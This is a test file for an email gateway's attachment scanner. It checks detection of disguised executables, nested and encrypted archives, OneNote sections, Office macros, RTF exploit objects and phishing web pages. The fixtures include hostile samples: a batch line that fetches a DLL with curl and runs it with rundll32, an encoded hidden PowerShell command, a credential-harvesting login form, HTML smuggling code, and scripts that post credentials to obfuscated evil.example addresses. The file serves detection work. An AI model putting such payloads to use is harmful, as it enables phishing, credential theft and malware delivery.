// Attachment policy on real files: names, first bytes, and ZIP archives made by Info-ZIP's zip
// (plain, nested, password-protected); the check on MIME messages parsed as the gateway parses them.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { DEFAULT_BLOCK_EXTENSIONS, DEFAULT_RISKY_EXTENSIONS, deceptiveNamesIn, extensionsOf, inspectAttachmentFiles, inspectAttachments, isNetworkShare, isWebPage, nameFindings, phishPageSign, programKind, scriptKind, type AttachmentPolicy } from '../../../src/content/attachments.ts';
import { isOle } from '../../../src/content/ole.ts';
import { fetchedOnOpen } from '../../../src/content/ooxml.ts';
import { zipAesInfo } from '../../../src/content/zipaes.ts';
import { attachmentsCheck, attachmentsOptionsSchema, type AttachmentsOptions } from '../../../src/pipeline/checks/attachments.ts';
import { passwordInText } from '../../../src/content/text-password.ts';
import { parseMessage } from '../../../src/pipeline/index.ts';
import { parseReply } from '../../../src/pipeline/verdict.ts';
import type { CheckDeps, DataContext } from '../../../src/pipeline/types.ts';
import { PDF, equationObject, ole10Native, oleDocument, oneNoteSection, outlookMessage, powerPointDocument, rtfDocument, webLinkedObject, windowsProgram, windowsShortcut } from '../../helpers/files.ts';
import { rar4Archive, rar5Archive } from '../../helpers/rar.ts';
import { pdfDocument } from '../../helpers/pdf.ts';
import { excelWorkbook, readWithXlrd } from '../../helpers/xls.ts';
import { gzipFile, isoImage, sevenZipArchive, sevenZipNames, tarArchive, xzFile, zipArchive } from '../../helpers/zip.ts';
import { unxzWithin } from '../../../src/content/xz.ts';
import { fakeStore } from '../pipeline/fake-store.ts';
import yauzl from 'yauzl';
import { quietLog, session, testConfig } from '../pipeline/util.ts';

/** the entries of a ZIP as yauzl reads them */
async function entriesOf(archive: Buffer): Promise<yauzl.Entry[]> {
  const zip = await yauzl.fromBufferPromise(archive, { lazyEntries: true });
  const out: yauzl.Entry[] = [];
  for await (const entry of zip.eachEntry()) out.push(entry);
  zip.close();
  return out;
}

const policy = (over: Partial<AttachmentPolicy> = {}): AttachmentPolicy => ({
  block: new Set(DEFAULT_BLOCK_EXTENSIONS), risky: new Set(DEFAULT_RISKY_EXTENSIONS), inspectArchives: true,
  maxArchiveDepth: 3, maxUnpackBytes: 20_000_000, maxEntries: 10_000, ...over,
});

const summary = async (files: Array<{ filename: string | null; mimeType?: string; content: Uint8Array }>, p = policy()): Promise<string[]> =>
  (await inspectAttachments(files, p)).map((f) => `${f.kind}: ${f.path.join(' > ')} (${f.why})`);

test('extensionsOf: the trailing extensions, lower-cased, with spaces and trailing dots gone', () => {
  assert.deepEqual(extensionsOf('Invoice.PDF       .exe. '), ['pdf', 'exe']);
  assert.deepEqual(extensionsOf('Offer v1.2 final.pdf.exe'), ['pdf', 'exe']);
  assert.deepEqual(extensionsOf('Счёт.docx'), ['docx']);
  assert.deepEqual(extensionsOf('README'), []);
});

test('nameFindings: programs are blocked, risky types flagged, disguises named', () => {
  const p = policy();
  const kinds = (name: string): string[] => nameFindings(name, [name], p).map((f) => `${f.kind} ${f.why}`);
  assert.deepEqual(kinds('setup.EXE'), ['blocked .exe']);
  assert.deepEqual(kinds('invoice.pdf.exe'), ['blocked .exe', 'deceptive .pdf in front of .exe']);
  assert.deepEqual(kinds('payment.pdf.html'), ['risky .html', 'deceptive .pdf in front of .html']);
  assert.deepEqual(kinds('tool.exe.gz'), ['blocked .exe'], 'a single-file compressor unpacks to the program');
  assert.deepEqual(kinds('scan.iso'), ['risky .iso']);
  // a virtual hard disk mounts on a double click like an ISO, but its files are not read here (Outlook blocks it)
  assert.deepEqual(kinds('Apodeiktiko_Pliromis.vhd'), ['blocked .vhd']);
  assert.deepEqual(kinds('Rechnung.pdf.vhdx'), ['blocked .vhdx', 'deceptive .pdf in front of .vhdx']);
  assert.deepEqual(kinds('Budget 2027.xlsm'), ['risky .xlsm']);
  // "invoice\u202Efdp.exe" shows as "invoiceexe.pdf"
  assert.deepEqual(kinds('invoice\u202efdp.exe'), ['deceptive text-direction control characters in the name', 'blocked .exe']);
  // ordinary business files
  for (const name of ['Счёт №15.pdf', 'Angebot.docx', 'photo.jpg', 'data.tar.gz', 'report.pdf.zip', 'John.Smith.vcf', 'Rechnung 12.2026.xlsx']) assert.deepEqual(kinds(name), [], name);
});

test('programKind: a Windows program by its PE header, a Linux one by ELF; MZ text is not one', () => {
  assert.equal(programKind(windowsProgram()), 'a Windows program');
  assert.equal(programKind(Buffer.from('\x7fELF\x02\x01\x01', 'latin1')), 'a Linux program');
  assert.equal(programKind(Buffer.from('MZ is the start of this plain text note, which is long enough to have an offset at 0x3c.')), null);
  assert.equal(programKind(PDF), null);
  assert.equal(programKind(windowsShortcut()), 'a Windows shortcut');
});

test('internet shortcuts to a file on a network share are refused; web shortcuts are only risky', async () => {
  const shortcut = (url: string) => Buffer.from(`[InternetShortcut]\r\nURL=${url}\r\nIconIndex=1\r\n`);
  assert.deepEqual(await summary([{ filename: 'Rechnung.url', content: shortcut('file://203.0.113.7/share/Rechnung.pdf.exe') }]), [
    'risky: Rechnung.url (.url)', 'blocked: Rechnung.url (a shortcut to a file on a network share (file://203.0.113.7/share/Rechnung.pdf.exe))',
  ]);
  assert.deepEqual(await summary([{ filename: 'Scan.pdf', content: shortcut('\\\\files.evil.test@SSL\\DavWWWRoot\\scan.js') }]).then((r) => r.map((x) => x.split(' (')[0])), ['blocked: Scan.pdf'], 'by content, whatever its name');
  assert.deepEqual(await summary([{ filename: 'Intranet.url', content: shortcut('https://www.example.com/') }]), ['risky: Intranet.url (.url)']);
  assert.deepEqual(await summary([{ filename: 'Doku.url', content: shortcut('file:///C:/Users/anna/Doku.pdf') }]), ['risky: Doku.url (.url)'], "the reader's own disk");
  for (const [target, remote] of [['\\\\203.0.113.7\\share\\a.exe', true], ['file:////srv/share/a.exe', true], ['file://\\\\srv\\share\\a.exe', true],
    ['file:///home/a/x', false], ['file://localhost/c$/x', false], ['file://C:/x', false], ['https://x.test/a/b', false]] as const) {
    assert.equal(isNetworkShare(target), remote, target);
  }
});

test('OneNote sections: embedded programs, shortcuts and scripts are refused by content; documents pass', async () => {
  const hta = Buffer.from('<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize"><script language="VBScript">Set s = CreateObject("WScript.Shell")</script></head></html>');
  const section = oneNoteSection([PDF, hta, Buffer.from('@echo off\r\ncurl -o %TEMP%\\a.dll https://x.test/a && rundll32 %TEMP%\\a.dll,Run\r\n'), windowsShortcut(), windowsProgram()]);
  assert.deepEqual(await summary([{ filename: 'Rechnung.one', content: section }]), [
    'risky: Rechnung.one (.one)',
    'blocked: Rechnung.one > (embedded file) (an HTML application (HTA))',
    'blocked: Rechnung.one > (embedded file) (a batch script)',
    'blocked: Rechnung.one > (no name) (a Windows shortcut)',
    'blocked: Rechnung.one > (no name) (a Windows program)',
  ]);
  assert.deepEqual(await summary([{ filename: 'Notizen.one', content: oneNoteSection([PDF, Buffer.from('Besprechung am Montag: Budget 2027, Einkauf, Lager.')]) }]), ['risky: Notizen.one (.one)']);
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: zipArchive([['Rechnung.one', oneNoteSection([hta])]]) }]), [
    'risky: docs.zip > Rechnung.one (.one)', 'blocked: docs.zip > Rechnung.one > (embedded file) (an HTML application (HTA))',
  ]);
  const cut = oneNoteSection([windowsProgram()]);
  assert.deepEqual(await summary([{ filename: 'x.one', content: cut.subarray(0, 1030) }]), ['risky: x.one (.one)'], 'cut short');
  assert.equal(scriptKind(Buffer.from('powershell -nop -w hidden -enc SQBFAFgA')), 'a PowerShell command');
  assert.equal(scriptKind(Buffer.from('Meeting notes: echo the plan to the team, then off to lunch.')), null);
});

test('inspectAttachments: a program named as a PDF is blocked by its content', async () => {
  assert.deepEqual(await summary([{ filename: 'scan.pdf', content: windowsProgram() }, { filename: 'real.pdf', content: PDF }]), ['blocked: scan.pdf (a Windows program)']);
  assert.deepEqual(await summary([{ filename: null, content: windowsProgram() }]), ['blocked: (no name) (a Windows program)']);
});

test('inspectAttachments: names inside ZIP archives, nested archives, encryption', async () => {
  const plain = zipArchive([['invoice.pdf.exe', windowsProgram()], ['readme.txt', 'hello']]);
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: plain }]), [
    'blocked: docs.zip > invoice.pdf.exe (.exe)',
    'deceptive: docs.zip > invoice.pdf.exe (.pdf in front of .exe)',
  ]);
  const nested = zipArchive([['inner.zip', zipArchive([['run.js', 'WScript.Echo(1)']])], ['note.txt', 'see inner']]);
  assert.deepEqual(await summary([{ filename: 'outer.zip', content: nested }]), ['blocked: outer.zip > inner.zip > run.js (.js)']);
  // an archive's name need not say ZIP: its bytes do
  assert.deepEqual(await summary([{ filename: 'statement.dat', content: nested }]), ['blocked: statement.dat > inner.zip > run.js (.js)']);
  // the names of an encrypted archive are readable, its contents not
  const locked = zipArchive([['Rechnung.pdf', PDF]], { password: 'infected' });
  assert.deepEqual(await summary([{ filename: 'Rechnung.zip', content: locked }]), ['encrypted: Rechnung.zip (password-protected ZIP)']);
  const lockedProgram = zipArchive([['Rechnung.scr', windowsProgram()]], { password: '1234' });
  assert.deepEqual(await summary([{ filename: 'Rechnung.zip', content: lockedProgram }]), ['blocked: Rechnung.zip > Rechnung.scr (.scr)', 'encrypted: Rechnung.zip (password-protected ZIP)']);
  // a harmless archive, an Office document (a ZIP too), and a damaged archive say nothing
  assert.deepEqual(await summary([{ filename: 'photos.zip', content: zipArchive([['a.jpg', 'jpeg'], ['b.png', 'png']]) }]), []);
  assert.deepEqual(await summary([{ filename: 'broken.zip', content: plain.subarray(0, plain.length - 30) }]), []);
});

// A credential phish as sent in 2024–2026: a small page, the form posting to the thief's server.
const LOGIN_PAGE = `<!DOCTYPE html><html><head><title>Microsoft 365</title></head><body>
<form method="post" action="https://o365-verify.example/next.php"><p>Your session expired. Sign in to view the remittance.</p>
<input type="email" name="login" value="carol@example.com"><input name=passwd type = 'password'><button>Sign in</button></form></body></html>`;
const encoded = (html: string) => Buffer.from(html.repeat(8)).toString('base64');

test('phishPageSign: a password field, decoded hidden content, HTML smuggling, a redirect from an empty page', () => {
  const sign = (html: string, mht = false) => phishPageSign(Buffer.from(html), mht);
  assert.equal(sign(LOGIN_PAGE), 'a web page that asks for a password');
  // a field typed as text that says it is for the password, by its placeholder, label or name, in UTF-8 or as an entity
  // (the seventy-sixth pair's "Teams voicemail": placeholder="Contraseña")
  for (const field of ['<input type="text" name="f0" placeholder="Contraseña" required>', '<input name="f1" placeholder="Passwort">', '<input type="text" aria-label="Hasło">',
    '<input type="text" placeholder="Пароль">', '<input type=text id=user_password>', '<input type="text" placeholder="Contrase&ntilde;a">'])
    assert.equal(sign(`<html><body><form method="post" action="https://vm-play.test/auth/"><input type="email" name="login" value="a@example.com">${field}</form></body></html>`), 'a web page that asks for a password', field);
  // a hidden field named so, or a search box, is no password field
  assert.equal(sign('<html><body><form action="/search"><input type="hidden" name="password_policy" value="1"><input type="text" name="q" placeholder="Search"></form></body></html>'), null);
  // nor an e-mail field whose hint only mentions a password further on
  assert.equal(sign('<html><body><form action="/reset"><input type="email" name="mail" placeholder="Your e-mail address to reset your password"></form></body></html>'), null);
  assert.equal(sign(`<html><script>document.write(atob("${encoded(LOGIN_PAGE)}"))</script></html>`), 'a web page that decodes hidden content', 'the form hidden in base64');
  assert.equal(sign(`<html><script>document.write(atob("${encoded('<p>Remittance advice for your account</p>')}"))</script></html>`), 'a web page that decodes hidden content');
  assert.equal(sign(`<html><script>document.write(unescape('${'%3C%70%3E'.repeat(60)}'))</script></html>`), 'a web page that decodes hidden content');
  assert.equal(sign('<html><script>eval(atob("ZG9jdW1lbnQuYm9keS5pbm5lckhUTUwgPSB4"))</script></html>'), 'a web page that decodes hidden content', 'short code, run');
  assert.equal(sign('<html><body><script type="text/javascript" src="data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUoeCk="></script></body></html>'), 'a web page that decodes hidden content', 'a script in a data: address');
  assert.equal(sign('<html><body><script>const b = new Blob([bytes], {type: "application/octet-stream"}); const a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "Invoice.iso"; a.click();</script></body></html>'),
    'a web page that builds a file to save (HTML smuggling)');
  // obfuscated: the API's names in strings, some of them in \x escapes, the payload reversed
  const names = String.raw`var n=["\x61\x74\x6f\x62","createElement","download","\x42\x6c\x6f\x62","URL","createObjectURL"];`;
  assert.equal(sign(`<html><body><script>${names} var p="${'QUJD'.repeat(60)}".split("").reverse().join(""); var f=new window[n[3]]([window[n[0]](p)]); var l=document[n[1]]("a"); l.href=window[n[4]][n[5]](f); l[n[2]]="Avis.iso"; l.click();</script></body></html>`),
    'a web page that builds a file to save (HTML smuggling)');
  assert.equal(sign(`<html><body><script>var p="${'QUJD'.repeat(60)}".split("").reverse().join(""); document.body.innerHTML=window["atob"](p);</script></body></html>`), 'a web page that decodes hidden content', 'a long string reversed');
  // a page that checks for Blob support, or reverses a short word, saves nothing and hides nothing
  assert.equal(sign(`<html><body>${'<p>Quarterly figures of the sales team, by region. </p>'.repeat(6)}<script>if (typeof window["Blob"] === "function") supported = true; var w = "olleh".split("").reverse().join("");</script></body></html>`), null);
  assert.equal(sign('<html><head><meta http-equiv="refresh" content="0; url=https://login.example.net/?u=carol@example.com"></head><body>Loading…</body></html>'), 'a web page that sends the reader on to a web site');
  assert.equal(sign('<html><body><p>Loading</p><script>window.location.href = "https://evil.example/#carol@example.com"</script></body></html>'), 'a web page that sends the reader on to a web site');
  assert.equal(sign('<html><body><div id="app"></div><script src="https://cdn.evil.example/kit.js"></script></body></html>'), 'a web page with nothing to read that loads its content from the web');
  assert.equal(sign('<html><body><iframe src="//evil.example/login" style="width:100%;height:100%;border:0"></iframe></body></html>'), 'a web page with nothing to read that loads its content from the web');
  // an .mht is MIME with quoted-printable HTML
  assert.equal(sign('MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<input type=3D"pass=\r\nword">\r\n--b--\r\n', true), 'a web page that asks for a password');
});

test('phishPageSign: an SVG picture that runs a script, however it starts it', () => {
  const sign = (svg: string) => phishPageSign(Buffer.from(svg));
  const SVG_OPEN = '<?xml version="1.0" encoding="UTF-8"?>\n<!-- Generator: Adobe Illustrator -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"';
  for (const code of [
    '><rect width="100" height="100"/><script type="text/ecmascript"><![CDATA[ var e = "carol@example.com"; window.location = "https://" + "evil.example/?" + e; ]]></script></svg>',
    ' onload="top.location=\'https://evil.example\'"><rect width="100" height="100"/></svg>',
    '><a href=" javascript:void(document.body.innerHTML=1)"><text y="20">Open the fax</text></a></svg>',
    '><image href="x.png" width="1" height="1" ONERROR = "eval(name)"/></svg>',
  ]) assert.equal(sign(SVG_OPEN + code), 'an SVG picture that runs a script', code);
  // a drawing exported with HTML labels, links to the web, CSS: a picture, nothing more
  assert.equal(sign(`${SVG_OPEN}><style>.label{font:12px sans-serif}</style><foreignObject width="80" height="20"><div xmlns="http://www.w3.org/1999/xhtml">Decision?</div></foreignObject>
    <a href="https://www.example.org/docs"><text y="50" class="label">Documentation</text></a><path d="M0 0L10 10" fill="none" stroke="black"/></svg>`), null);
  // an HTML page with a drawing and scripts is a page, judged as one
  assert.equal(sign(`<html><body>${'<p>Quarterly figures of the sales team, by region and product line. </p>'.repeat(6)}<svg><rect onclick="show(1)" width="9" height="9"/></svg><script>function show(n) {}</script></body></html>`), null);
});

test('phishPageSign: a web address written so that a scanner cannot read it', () => {
  const sign = (html: string) => phishPageSign(Buffer.from(html));
  const HIDES = 'a web page that hides a web address: evil.example';
  const document = '<p>Please review the attached remittance advice and confirm receipt with your account details. </p>'.repeat(5);
  assert.equal(sign(`<html><body>${document}<script>window.location.href = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbG9naW4=") + "#carol@example.com"</script></body></html>`), HIDES, 'base64, even below a page of text');
  assert.equal(sign('<html><script>fetch(atob("aHR0cDovL2V2aWwuZXhhbXBsZS9wb3N0"), {method: "POST", body: creds})</script></html>'), HIDES, 'http:// in base64: where the password goes');
  assert.equal(sign('<html><script>location.replace("\\x68\\x74\\x74\\x70\\x73\\x3a//evil.example")</script></html>'), HIDES, 'hex escapes');
  assert.equal(sign('<html><script>location = unescape("%68%74%74%70%73%3A%2F%2Fevil.example")</script></html>'), HIDES, 'percent escapes');
  assert.equal(sign('<html><a href="&#104;&#116;&#116;&#112;&#115;://evil.example">Open</a></html>'), HIDES, 'character references');
  assert.equal(sign('<html><script>location.href = "elpmaxe.live//:sptth".split("").reverse().join("")</script></html>'), HIDES, 'reversed');
  assert.equal(sign('<html><body><p>&#ab; &#x110000; &#999999999999;</p><a href="https://www.example.org/?next=https%3A%2F%2Fwww.example.org%2Fa">aHR0 is base64 for htt</a><img src="data:image/png;base64,iVBORw0KGgo="></body></html>'), null);
  assert.equal(sign('<html><a href="https://play.example/?code=fn+main()+%7B%0A++//+FIXME(https://github.com/org/repo/issues/1)%0A%7D">Run</a><pre>&#60;link href="http://www.w3.org/1999/xhtml"&#62;</pre></html>'), null,
    'escaped text with a plain web address in it (a code sample in a link, escaped markup) hides none');
  const logo = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>').toString('base64');
  assert.ok(logo.includes('aHR0cDovL'), 'the xmlns is "http://" in base64');
  assert.equal(sign(`<html><body>${document}<img src="data:image/svg+xml;base64,${logo}"></body></html>`), null, 'a picture in a data: URI');
});

test('phishPageSign: a page of unclosed tags is read in linear time (backtracking over them took 47 s)', { timeout: 20_000 }, () => {
  assert.equal(phishPageSign(Buffer.from('<input '.repeat(100_000))), null);
  assert.equal(phishPageSign(Buffer.from(`<meta ${'http-equiv=refresh '.repeat(20_000)}`)), null);
});

test('phishPageSign: honest pages say nothing: an HTML invoice, a search form, a short atob, a linked redirect page with text', () => {
  const sign = (html: string) => phishPageSign(Buffer.from(html));
  assert.equal(sign('<html><body><h1>Invoice 2026-114</h1><table><tr><td>Consulting</td><td>1,200.00 EUR</td></tr></table></body></html>'), null);
  assert.equal(sign('<html><body><form action="https://www.example.org/search"><input type="text" name="q"><input type="submit"></form></body></html>'), null);
  assert.equal(sign('<html><script>const cfg = JSON.parse(atob("eyJhIjoxfQ==")); const d = new Blob([x]);</script></html>'), null);
  const article = `<html><head><script>if (old) window.location.href = "https://example.org/new"</script></head><body>${'<p>A long article that people read and forward to colleagues. </p>'.repeat(10)}</body></html>`;
  assert.equal(sign(article), null, 'a page with text to read is not a bare redirect');
  const report = `<html><head><script src="https://cdn.plot.example/plotly.min.js"></script></head><body><h1>Monthly report</h1>${'<p>Revenue grew in every region; the chart below shows the figures by month and product. </p>'.repeat(4)}<div id="chart"></div></body></html>`;
  assert.equal(sign(report), null, 'a report that draws its chart with a script from the web has text to read');
  assert.equal(sign('<html><script src="js/app.js"></script><div id="app"></div></html>'), null, 'a script beside the page is no sign');
});

test('inspectAttachments: attached web pages by name, Content-Type or first bytes, also inside ZIP archives', async () => {
  assert.equal(isWebPage({ filename: 'Remittance.HTM', content: Buffer.from('x') }), true);
  assert.equal(isWebPage({ filename: 'scan', mimeType: 'image/svg+xml', content: Buffer.from('x') }), true);
  assert.equal(isWebPage({ filename: 'invoice.pdf', content: Buffer.from('\ufeff  <!DOCTYPE html><html>') }), true);
  assert.equal(isWebPage({ filename: 'notes.txt', content: Buffer.from('password: <input type=password>') }), false);
  assert.deepEqual(await summary([{ filename: 'Remittance.html', content: Buffer.from(LOGIN_PAGE) }]), [
    'risky: Remittance.html (.html)',
    'phish-page: Remittance.html (a web page that asks for a password)',
  ]);
  assert.deepEqual(await summary([{ filename: 'Payment-Advice', mimeType: 'application/octet-stream', content: Buffer.from(LOGIN_PAGE) }]), ['phish-page: Payment-Advice (a web page that asks for a password)']);
  assert.deepEqual(await summary([{ filename: 'fax.zip', content: zipArchive([['Fax_0042.shtml', LOGIN_PAGE]]) }]), [
    'risky: fax.zip > Fax_0042.shtml (.shtml)',
    'phish-page: fax.zip > Fax_0042.shtml (a web page that asks for a password)',
  ]);
  assert.deepEqual(await summary([{ filename: 'report.html', content: Buffer.from('<html><body><p>Quarterly figures</p></body></html>') }]), ['risky: report.html (.html)']);
});

test('inspectAttachments: limits: depth, the unpack budget, archives off', async () => {
  const deep = zipArchive([['l2.zip', zipArchive([['l3.zip', zipArchive([['payload.vbs', 'x']])]])]]);
  assert.deepEqual(await summary([{ filename: 'l1.zip', content: deep }]), ['blocked: l1.zip > l2.zip > l3.zip > payload.vbs (.vbs)']);
  assert.deepEqual(await summary([{ filename: 'l1.zip', content: deep }], policy({ maxArchiveDepth: 2 })), [], 'the third level is not opened');
  assert.deepEqual(await summary([{ filename: 'l1.zip', content: deep }], policy({ maxUnpackBytes: 100 })), [], 'nested archives bigger than the budget are not unpacked');
  assert.deepEqual(await summary([{ filename: 'l1.zip', content: deep }], policy({ inspectArchives: false })), []);
  // a zip bomb's entry claims more than the budget: it is not unpacked at all
  const bomb = zipArchive([['big.zip', zipArchive([['zeros.bin', Buffer.alloc(5_000_000)]])]]);
  assert.deepEqual(await summary([{ filename: 'bomb.zip', content: bomb }], policy({ maxUnpackBytes: 1000 })), []);
});

test('inspectAttachments: the attachments of a forwarded message (message/rfc822, .eml) count, within the depth', async () => {
  const inner = mime([{ name: 'tool.exe', type: 'application/octet-stream', content: windowsProgram() }]);
  const forwarded = (message: Buffer, b = 'F'): Buffer => Buffer.concat([Buffer.from(`From: boss@sender.test\r\nSubject: Fwd\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="${b}"\r\n\r\n--${b}\r\nContent-Type: text/plain\r\n\r\nsee below\r\n--${b}\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename="fwd.eml"\r\n\r\n`), message, Buffer.from(`\r\n--${b}--\r\n`)]);
  const view = await parseMessage(forwarded(inner));
  assert.deepEqual(view.attachments.map((a) => a.mimeType), ['message/rfc822'], 'the parser keeps a forwarded message whole');
  assert.deepEqual(await summary(view.attachments), ['blocked: fwd.eml > tool.exe (.exe)']);
  // forwarded twice: one level more
  const twice = await parseMessage(forwarded(forwarded(inner), 'G'));
  assert.deepEqual(await summary(twice.attachments), ['blocked: fwd.eml > fwd.eml > tool.exe (.exe)']);
  assert.deepEqual(await summary(twice.attachments, policy({ maxArchiveDepth: 2 })), []);
  // a saved message with another type, by its name
  assert.deepEqual(await summary([{ filename: 'mail.eml', mimeType: 'application/octet-stream', content: inner }]), ['blocked: mail.eml > tool.exe (.exe)']);
});

test('Office documents: VBA macros in Word 97–2003 files whatever the name, packaged files judged like attachments', async () => {
  const macros = oleDocument({ macros: true });
  assert.equal(isOle(macros), true);
  assert.deepEqual(await summary([{ filename: 'Rechnung.doc', content: macros }, { filename: 'scan.pdf', content: macros }]), [
    'macro: Rechnung.doc (an Office document with macros)',
    'macro: scan.pdf (an Office document with macros)',
  ]);
  assert.deepEqual(await summary([{ filename: 'Angebot.doc', content: oleDocument() }]), [], 'a document without macros');
  // an icon in the document that runs a program, or a script, on a double click
  assert.deepEqual(await summary([{ filename: 'Angebot.doc', content: oleDocument({ packaged: { name: 'invoice.pdf.exe', content: windowsProgram() } }) }]), [
    'blocked: Angebot.doc > invoice.pdf.exe (.exe)', 'deceptive: Angebot.doc > invoice.pdf.exe (.pdf in front of .exe)',
  ]);
  assert.deepEqual(await summary([{ filename: 'Angebot.doc', content: oleDocument({ packaged: { name: 'photo.jpg', content: windowsProgram() } }) }]), ['blocked: Angebot.doc > photo.jpg (a Windows program)'], 'by content');
  assert.deepEqual(await summary([{ filename: 'Angebot.doc', content: oleDocument({ packaged: { name: 'notes.txt', content: Buffer.from('hello') } }) }]), []);
  // damaged, or not looked into
  const damaged = Buffer.concat([macros.subarray(0, 512), Buffer.alloc(2000, 0xff)]);
  assert.deepEqual(await summary([{ filename: 'broken.doc', content: damaged }]), []);
  assert.deepEqual(await summary([{ filename: 'Rechnung.doc', content: macros }], policy({ inspectArchives: false })), []);
});

test('Office documents: OOXML with a VBA project or Excel 4.0 macro sheets, embedded objects, documents inside ZIPs', async () => {
  const part = (s: string) => Buffer.from(s);
  const docx = (extra: Array<[string, Buffer]>) => zipArchive([['[Content_Types].xml', part('<Types/>')], ['word/document.xml', part('<w:document/>')], ...extra]);
  // a .docm renamed .docx still carries its macros
  assert.deepEqual(await summary([{ filename: 'Angebot.docx', content: docx([['word/vbaProject.bin', oleDocument({ macros: true })]]) }]), ['macro: Angebot.docx (an Office document with macros)']);
  const xlsx = zipArchive([['[Content_Types].xml', part('<Types/>')], ['xl/workbook.xml', part('<workbook/>')], ['xl/macrosheets/sheet1.xml', part('<xm:macrosheet/>')]]);
  assert.deepEqual(await summary([{ filename: 'Budget.xlsx', content: xlsx }]), ['macro: Budget.xlsx (an Excel workbook with Excel 4.0 macros)']);
  const embedded = docx([['word/embeddings/oleObject1.bin', oleDocument({ packaged: { name: 'run.js', content: Buffer.from('WScript.Shell') } })]]);
  assert.deepEqual(await summary([{ filename: 'Angebot.docx', content: embedded }]), ['blocked: Angebot.docx > run.js (.js)']);
  assert.deepEqual(await summary([{ filename: 'Angebot.docx', content: docx([['word/media/image1.png', part('png')]]) }]), [], 'an ordinary document');
  const archive = zipArchive([['Rechnung.doc', oleDocument({ macros: true })], ['readme.txt', 'hello']]);
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: archive }]), ['macro: docs.zip > Rechnung.doc (an Office document with macros)']);
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: archive }], policy({ maxArchiveDepth: 1 })), [], 'nesting is bounded');
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: archive }], policy({ maxUnpackBytes: 1000 })), [], 'so are the bytes unpacked');
  const stored = zipArchive([['Rechnung.doc', oleDocument({ macros: true })]], { stored: true });
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: stored }]), ['macro: docs.zip > Rechnung.doc (an Office document with macros)'], 'entries stored without compression');
  // an OOXML document inside a ZIP is opened too (it is a ZIP itself)
  const inZip = zipArchive([['Angebot.docx', docx([['word/vbaProject.bin', oleDocument({ macros: true })]])]]);
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: inZip }]), ['macro: docs.zip > Angebot.docx (an Office document with macros)']);
});

test('Excel 97–2003 workbooks: an Excel 4.0 macro sheet (hidden or not) counts as macros, whatever the name', async () => {
  const dropper = excelWorkbook([{ name: 'Rechnung' }, { name: 'Auto_Open', macro: true, hidden: true }]);
  // another reader, xlrd, must see the same workbook: one worksheet, one macro sheet it skips
  assert.deepEqual(readWithXlrd(dropper), { worksheets: ['Rechnung'], macroSheets: ['Auto_Open'] });
  const visible = excelWorkbook([{ name: 'Makro1', macro: true }, { name: 'Daten' }]);
  assert.deepEqual(readWithXlrd(visible), { worksheets: ['Daten'], macroSheets: ['Makro1'] });
  assert.deepEqual(await summary([{ filename: 'Rechnung.xls', content: dropper }, { filename: 'Liste.csv', content: visible }]), [
    'macro: Rechnung.xls (an Excel workbook with Excel 4.0 macros)',
    'macro: Liste.csv (an Excel workbook with Excel 4.0 macros)',
  ]);
  const plain = excelWorkbook([{ name: 'Rechnung' }, { name: 'Summen' }]);
  assert.deepEqual(readWithXlrd(plain), { worksheets: ['Rechnung', 'Summen'], macroSheets: [] });
  assert.deepEqual(await summary([{ filename: 'Budget.xls', content: plain }]), [], 'worksheets only');
  assert.deepEqual(await summary([{ filename: 'docs.zip', content: zipArchive([['Rechnung.xls', dropper]]) }]), ['macro: docs.zip > Rechnung.xls (an Excel workbook with Excel 4.0 macros)']);
});

// ClamAV's own test files (Debian clamav-testfiles), written by Word: clam.exe packaged into an RTF and a .doc
const CLAMAV_TESTFILES = '/usr/share/clamav-testfiles';

test('RTF documents: packaged files, embedded documents and Equation Editor objects, also hidden in obfuscated hex', async () => {
  assert.deepEqual(await summary([{ filename: 'clam.exe.rtf', content: readFileSync(join(CLAMAV_TESTFILES, 'clam.exe.rtf')) }]), ['blocked: clam.exe.rtf > clam.exe (.exe)']);
  assert.deepEqual(await summary([{ filename: 'clam.ole.doc', content: readFileSync(join(CLAMAV_TESTFILES, 'clam.ole.doc')) }]), ['blocked: clam.ole.doc > clam.exe (.exe)']);
  const packaged = { className: 'Package', native: ole10Native('Rechnung.pdf.exe', windowsProgram()).subarray(4) };
  for (const obfuscated of [false, true]) {
    // Word opens RTF under any name
    assert.deepEqual(await summary([{ filename: 'Rechnung.doc', content: rtfDocument([packaged], { obfuscated }) }]), [
      'blocked: Rechnung.doc > Rechnung.pdf.exe (.exe)', 'deceptive: Rechnung.doc > Rechnung.pdf.exe (.pdf in front of .exe)',
    ], `obfuscated: ${obfuscated}`);
    assert.deepEqual(await summary([{ filename: 'Angebot.rtf', content: rtfDocument([{ className: 'Word.Document.8', native: oleDocument({ macros: true }) }], { obfuscated }) }]), ['macro: Angebot.rtf (an Office document with macros)']);
  }
  // the Equation Editor by class name, or by the class ID of an embedded OLE2 object whose class name lies
  const equation = 'exploit: Bestellung.rtf (an Equation Editor object (CVE-2017-11882))';
  assert.deepEqual(await summary([{ filename: 'Bestellung.rtf', content: rtfDocument([{ className: 'Equation.3', native: Buffer.alloc(64, 0x1c) }]) }]), [equation]);
  for (const ids of [{ clsid: false }, { progId: false }]) {
